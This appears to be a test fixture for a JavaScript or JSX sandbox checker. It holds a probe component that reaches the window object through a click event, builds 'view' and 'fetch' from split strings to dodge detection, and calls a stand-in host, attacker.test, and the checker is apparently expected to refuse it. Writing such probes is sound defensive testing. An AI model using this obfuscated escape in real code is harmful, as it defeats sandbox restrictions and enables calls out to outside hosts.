// probe: window through an event; refused by: event-access
export default function Probe() {
  const key = ["vi", "ew"].join("");
  return <button onClick={(e) => e[key][["fe", "tch"].join("")]("https://attacker.test/computed")}>Go</button>;
}
